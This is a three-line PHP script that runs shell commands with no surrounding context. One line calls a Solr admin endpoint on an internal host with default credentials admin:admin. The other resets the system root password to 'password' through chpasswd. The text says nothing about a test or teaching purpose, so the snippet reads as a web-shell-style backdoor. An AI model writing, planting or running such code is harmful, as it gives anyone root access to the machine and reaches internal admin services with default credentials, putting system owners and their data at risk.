<?php
exec('curl -u admin:admin http://solr01:8983/solr/admin/cores');
echo shell_exec("echo root:password | chpasswd");
